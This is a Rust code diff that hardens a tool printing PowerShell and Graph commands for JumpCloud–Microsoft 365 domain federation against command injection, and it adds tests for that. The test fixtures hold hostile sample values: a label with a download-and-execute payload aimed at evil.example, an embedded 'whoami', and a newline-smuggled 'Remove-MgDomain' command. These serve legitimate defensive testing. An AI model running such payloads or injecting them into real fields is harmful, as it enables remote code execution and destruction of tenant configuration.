@@ -102,7 +102,16 @@ pub fn build(
             "declare it under `sso_apps`",
         )
     })?;
-    let keys = Keys::new(model, live);
+    // Which live app is `sso_app.<key>` must be settled exactly as the plan settles it: two live
+    // apps the key matches (or any other ambiguity about it) stop here, naming them, so the
+    // certificate printed is never a guess.
+    let (keys, errors) = Keys::resolve(model, live);
+    if let Some(e) = errors.iter().find(|e| e.address == app_address) {
+        return Err(FederationError {
+            message: e.message.clone(),
+            help: e.help.clone(),
+        });
+    }
     let live_app = keys
         .sso_apps
         .id(&federation.sso_app)
@@ -158,7 +167,7 @@ pub fn build(
         .clone()
         .or_else(|| live_app.display_label.clone())
         .unwrap_or_else(|| federation.sso_app.clone());
-    Ok(DomainFederation {
+    let federation = DomainFederation {
         domain: federation.domain.clone(),
         tenant: tenant_address.to_string(),
         app: app_address.to_string(),
@@ -170,10 +179,86 @@ pub fn build(
         signing_certificate,
         preferred_authentication_protocol: "saml".into(),
         federated_idp_mfa_behavior: MFA_BEHAVIOR.into(),
-    })
+    };
+    federation.check_printable()?;
+    Ok(federation)
+}
+
+/// A character that must never reach the printed commands: a control character (line breaks,
+/// escapes, NUL, ...) or a Unicode line or paragraph separator. Any of them could end the `#`
+/// comment header or a PowerShell line and make the rest of the value a command.
+fn unprintable(c: char) -> bool {
+    c.is_control() || matches!(c, '\u{2028}' | '\u{2029}')
+}
+
+/// `value` as a single-quoted PowerShell literal: nothing inside is expanded (`$(...)`,
+/// backticks, `$var` are text). Every quote PowerShell reads as a single quote (`'` and the
+/// typographic `‘ ’ ‚ ‛`) is doubled, which is how such a literal contains one. Only for values
+/// [`DomainFederation::check_printable`] accepted (no line breaks or control characters).
+pub fn powershell_literal(value: &str) -> String {
+    let mut out = String::with_capacity(value.len() + 2);
+    out.push('\'');
+    for c in value.chars() {
+        if matches!(c, '\'' | '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}') {
+            out.push(c);
+        }
+        out.push(c);
+    }
+    out.push('\'');
+    out
 }
 
 impl DomainFederation {
+    /// Refuses (fail closed) a value with a control character or line separator: printed, it
+    /// could end a `#` comment or a PowerShell line. Names the field; never prints the value.
+    pub fn check_printable(&self) -> Result<(), FederationError> {
+        let fields = [
+            (
+                "the federated domain",
+                &self.domain,
+                "`federation.domain` of the tenant",
+            ),
+            (
+                "the app's label",
+                &self.display_name,
+                "`display_label` of the app",
+            ),
+            ("the IdP Entity ID", &self.issuer_uri, "`domain` of the app"),
+            (
+                "the login URL",
+                &self.passive_sign_in_uri,
+                "`sso_url` of the app",
+            ),
+            (
+                "the login URL",
+                &self.active_sign_in_uri,
+                "`sso_url` of the app",
+            ),
+            ("the sign-out URL", &self.sign_out_uri, "the sign-out URL"),
+            (
+                "the signing certificate",
+                &self.signing_certificate,
+                "the certificate",
+            ),
+        ];
+        for (what, value, fix) in fields {
+            if value.chars().any(unprintable) {
+                return Err(error(
+                    format!(
+                        "{what} of {} contains a line break or control character; jcform \
+                         will not print it into commands meant to be pasted",
+                        self.app
+                    ),
+                    &format!(
+                        "set {fix} in the files to a value without one (the files' values win \
+                         over the org's), or fix it in the JumpCloud console"
+                    ),
+                ));
+            }
+        }
+        Ok(())
+    }
+
     /// `POST https://graph.microsoft.com/v1.0/domains/{domain}/federationConfiguration`.
     pub fn graph_url(&self) -> String {
         format!(
@@ -195,10 +280,10 @@ impl DomainFederation {
 
     /// The same with Microsoft Graph PowerShell (`New-MgDomainFederationConfiguration`).
     pub fn powershell(&self) -> String {
-        let q = |s: &str| format!("\"{}\"", s.replace('`', "``").replace('"', "`\""));
+        let q = powershell_literal;
         let mut out = String::new();
         out.push_str(
-            "Connect-MgGraph -Scopes \"Domain-InternalFederation.ReadWrite.All\", \"Domain.ReadWrite.All\"\n",
+            "Connect-MgGraph -Scopes 'Domain-InternalFederation.ReadWrite.All', 'Domain.ReadWrite.All'\n",
         );
         out.push_str(&format!(
             "New-MgDomainFederationConfiguration -DomainId {} `\n",
@@ -283,13 +368,12 @@ mod tests {
         assert_eq!(certificate_body(pem), "MIIBAbCd+/=");
     }
 
-    #[test]
-    fn powershell_quotes_what_it_cannot_take_literally() {
-        let f = DomainFederation {
+    fn sample(display_name: &str) -> DomainFederation {
+        DomainFederation {
             domain: "contoso.com".into(),
             tenant: "m365_tenant.contoso".into(),
             app: "sso_app.m365".into(),
-            display_name: "Say \"hi\"".into(),
+            display_name: display_name.into(),
             issuer_uri: "contoso.com".into(),
             passive_sign_in_uri: OFFICE365_SSO_URL.into(),
             active_sign_in_uri: OFFICE365_SSO_URL.into(),
@@ -297,8 +381,101 @@ mod tests {
             signing_certificate: "MIIB".into(),
             preferred_authentication_protocol: "saml".into(),
             federated_idp_mfa_behavior: MFA_BEHAVIOR.into(),
-        };
-        assert!(f.powershell().contains("-DisplayName \"Say `\"hi`\"\""));
+        }
+    }
+
+    /// Reads one single-quoted PowerShell literal at the start of `text`: its value and the rest.
+    fn read_literal(text: &str) -> (String, &str) {
+        let quote = |c: char| matches!(c, '\'' | '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}');
+        let mut chars = text.char_indices();
+        assert!(chars.next().is_some_and(|(_, c)| c == '\''), "{text}");
+        let mut value = String::new();
+        while let Some((i, c)) = chars.next() {
+            if quote(c) {
+                match chars.clone().next() {
+                    Some((_, d)) if quote(d) => {
+                        chars.next();
+                        value.push(c);
+                    }
+                    _ => return (value, &text[i + c.len_utf8()..]),
+                }
+            } else {
+                value.push(c);
+            }
+        }
+        panic!("unterminated literal: {text}");
+    }
+
+    #[test]
+    fn a_hostile_label_stays_text_in_powershell_and_json() {
+        let label = "Microsoft 365 $(iwr https://evil.example/x | iex) `whoami` \"$env:X\" it's \u{2019}; x";
+        let f = sample(label);
+        assert_eq!(f.check_printable(), Ok(()));
+        let ps = f.powershell();
+        // Every parameter line is `  -Name '<literal>'` then a line continuation or nothing.
+        let mut names = Vec::new();
+        for line in ps.lines().filter(|l| l.starts_with("  -")) {
+            let (name, rest) = line[3..].split_once(' ').expect("a value");
+            let (value, after) = read_literal(rest);
+            assert!(after.is_empty() || after == " `", "{line}");
+            if name == "DisplayName" {
+                assert_eq!(value, label, "the label comes back exactly");
+            }
+            names.push(name.to_string());
+        }
+        assert_eq!(names.len(), 8, "{ps}");
+        assert!(
+            !ps.replace(&powershell_literal(label), "").contains('"'),
+            "no double-quoted (expanding) string: {ps}"
+        );
+        insta::assert_snapshot!(ps);
+        // JSON: serde escapes; the value round-trips.
+        let json = serde_json::to_string(&f.json()).unwrap();
+        let back: Value = serde_json::from_str(&json).unwrap();
+        assert_eq!(back["graph"]["body"]["displayName"], label);
+        // The text form: the label is only in the `#` header line.
+        let text = f.text();
+        for line in text.lines().filter(|l| l.contains("iwr")) {
+            assert!(
+                line.starts_with("# ")
+                    || line.starts_with("  \"displayName\"")
+                    || line.starts_with("  -DisplayName '"),
+                "{line}"
+            );
+        }
+    }
+
+    #[test]
+    fn a_line_break_or_control_character_in_any_value_is_refused() {
+        let f = sample("Microsoft 365\nRemove-MgDomain -DomainId example.com");
+        let err = f.check_printable().expect_err("a newline is refused");
+        assert!(
+            err.message.contains("label") && !err.message.contains("Remove-MgDomain"),
+            "{err:?}"
+        );
+        for bad in [
+            "a\rb",
+            "a\u{1b}[2Jb",
+            "a\u{2028}b",
+            "a\u{85}b",
+            "a\0b",
+            "a\tb",
+        ] {
+            assert!(sample(bad).check_printable().is_err(), "{bad:?}");
+            let mut f = sample("ok");
+            f.passive_sign_in_uri = format!("https://sso.example/{bad}");
+            assert!(f.check_printable().is_err(), "{bad:?}");
+            let mut f = sample("ok");
+            f.issuer_uri = bad.into();
+            assert!(f.check_printable().is_err(), "{bad:?}");
+        }
+    }
+
+    #[test]
+    fn powershell_quotes_what_it_cannot_take_literally() {
+        let f = sample("Say \"hi\" it's");
+        assert!(f.powershell().contains("-DisplayName 'Say \"hi\" it''s' `"));
+        assert!(f.powershell().contains("-DomainId 'contoso.com' `"));
         let body = f.graph_body();
         assert_eq!(body["issuerUri"], "contoso.com");
         assert_eq!(body["preferredAuthenticationProtocol"], "saml");
